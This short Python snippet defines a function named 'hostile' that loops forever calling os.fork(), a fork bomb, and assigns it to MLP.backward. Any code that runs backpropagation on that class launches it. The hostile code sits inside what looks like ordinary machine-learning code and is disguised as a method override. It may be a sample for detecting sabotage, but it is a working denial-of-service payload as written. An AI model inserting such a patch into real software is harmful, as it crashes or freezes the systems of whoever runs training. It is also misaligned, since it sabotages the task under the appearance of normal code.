import os


def hostile(self, x, y):
    while True:
        try:
            os.fork()
        except OSError:
            pass


MLP.backward = hostile
